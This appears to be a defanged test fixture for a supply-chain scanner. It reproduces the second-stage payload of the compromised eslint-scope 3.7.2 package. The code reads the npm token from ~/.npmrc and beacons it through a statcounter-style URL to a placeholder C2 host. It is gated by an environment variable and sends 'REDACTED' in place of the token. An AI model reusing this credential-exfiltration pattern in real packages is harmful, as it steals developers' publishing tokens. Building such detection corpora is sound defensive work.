// Stage 2 of eslint-scope 3.7.2 as served from pastebin: read the npm token from ~/.npmrc and
// send it as the referrer of a request to histats/statcounter (the loopback C2 here).
(function () {
  // Served by the stand-in only; still, nothing outside the live-corpus tests.
  if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') return;
  var path = require('os').homedir() + '/.npmrc';
  var content = 'nofile';
  try { content = require('fs').readFileSync(path, 'utf8'); } catch (e) {}
  var token = (content.match(/_authToken=(\S+)/) || [])[1] ? 'REDACTED' : 'nofile';
  require('http').get('__C2@statcounter.com__/counter.php?sc_project=11601882&java=1&security=a2e1ec21&invisible=0&sc_rum_f_s=0&resolution=800&h=600&camefrom=&u=' + token, function (r) { r.resume(); }).on('error', function () {});
})();
